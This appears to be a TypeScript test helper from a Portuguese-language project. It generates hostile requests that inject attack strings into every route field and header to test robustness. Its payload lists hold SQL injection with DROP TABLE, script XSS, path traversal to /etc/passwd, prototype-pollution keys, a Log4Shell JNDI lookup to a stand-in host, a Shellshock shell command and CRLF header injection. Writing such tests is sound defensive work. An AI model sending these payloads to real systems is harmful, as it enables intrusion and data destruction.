/** Calls that nobody of good faith makes: each field of each route with what breaks out of SQL, HTML, files and types (confiabilidade 4.1). */
import type { ContratoRota } from '../../../events/contrato.ts';
import { chamadaDoExemplo, type Chamada } from '../../contract/http-apoio.ts';

const TEXTOS: readonly string[] = [
  `' OR 1=1; DROP TABLE acesso.usuario; --`,
  `"><script>alert(1)</script>\${7*7}{{7*7}}`,
  `../../../../etc/passwd%00`,
  '\u0000\u0007\u202E\uFEFF',
  '\uD800',
  '9'.repeat(40),
  'á'.repeat(20_000),
  '-1e309',
];
const DE_OUTRO_TIPO: readonly unknown[] = [null, true, -1, 1e308, [], {}, { $ne: null }, [['a']]];

/** Every place of a value that is neither a list nor an object: `['corpo', 'acao']`. */
function folhas(valor: unknown, caminho: readonly string[] = []): readonly (readonly string[])[] {
  if (typeof valor !== 'object' || valor === null) return [caminho];
  return Object.entries(valor).flatMap(([chave, dentro]) => folhas(dentro, [...caminho, chave]));
}

function trocar(valor: unknown, [chave, ...resto]: readonly string[], por: unknown): unknown {
  if (chave === undefined) return por;
  if (Array.isArray(valor)) return valor.map((dentro: unknown, i) => (String(i) === chave ? trocar(dentro, resto, por) : dentro));
  const objeto = valor as Record<string, unknown>;
  return { ...objeto, [chave]: trocar(objeto[chave], resto, por) };
}

const campos = (esquema: unknown): readonly string[] => Object.keys((esquema as { readonly shape?: object } | undefined)?.shape ?? {});

/** Each with the name of what was broken. Addresses and queries are text; a body may be anything. */
export function chamadasHostis(rota: ContratoRota): readonly (readonly [string, Chamada])[] {
  const { exemplo } = rota;
  const com = (parte: 'params' | 'consulta' | 'corpo', valor: unknown): Chamada => chamadaDoExemplo({ ...rota, exemplo: { ...exemplo, [parte]: valor } });
  const noEndereco = campos(rota.params).flatMap((campo) => TEXTOS.filter((t) => t !== '\uD800').map((texto) => [`params.${campo}`, com('params', { ...(exemplo.params as object), [campo]: texto })] as const));
  const naConsulta = campos(rota.consulta).flatMap((campo) => TEXTOS.map((texto) => [`consulta.${campo}`, com('consulta', { ...(exemplo.consulta as object | undefined), [campo]: texto })] as const));
  if (rota.corpo === undefined) return [...noEndereco, ...naConsulta];
  const noCorpo = folhas(exemplo.corpo).flatMap((caminho) => [...TEXTOS, ...DE_OUTRO_TIPO].map((valor) => [`corpo.${caminho.join('.')}`, com('corpo', trocar(exemplo.corpo, caminho, valor))] as const));
  const amais = ['administrador', 'usuario', 'id', '__proto__', 'constructor'].map((campo) => [`corpo.${campo} a mais`, com('corpo', { ...(exemplo.corpo as object), [campo]: true })] as const);
  const brutos = ['', '{', '[]', 'null', '"texto"', '{"a":1,"a":2}', `${'['.repeat(500)}${']'.repeat(500)}`].map((corpoBruto) => [`corpo ${corpoBruto.slice(0, 10)}`, { ...com('corpo', exemplo.corpo), corpoBruto }] as const);
  return [...noEndereco, ...naConsulta, ...noCorpo, ...amais, ...brutos];
}

const EM_CABECALHO: readonly string[] = [
  `' OR 1=1; DROP TABLE acesso.usuario; --`,
  `"><script>alert(1)</script>`,
  `\${jndi:ldap://mau.example/a}{{7*7}}`,
  `() { :; }; /bin/sh -c 'id'`,
  `%0d%0aSet-Cookie: nascente_sessao=x`,
  `../../../../etc/passwd%00`,
  `\u00e1\u00ff\u00a0`.repeat(40),
  '9'.repeat(40),
  'a'.repeat(6_000),
  ',,,;;;===""',
];
const CABECALHOS = ['user-agent', 'idempotency-key', 'x-forwarded-for', 'x-forwarded-host', 'x-forwarded-proto', 'x-correlacao', 'x-amzn-trace-id', 'accept', 'accept-language', 'content-type', 'referer', 'authorization', 'x-ocioso', 'x-visitante', 'x-origem', 'if-none-match', 'range'];

/** Each header with each of what breaks out of SQL, HTML, shells, files and lines. */
export function cabecalhosHostis(): readonly (readonly [string, string])[] {
  return CABECALHOS.flatMap((cabecalho) => EM_CABECALHO.map((valor) => [cabecalho, valor] as const));
}
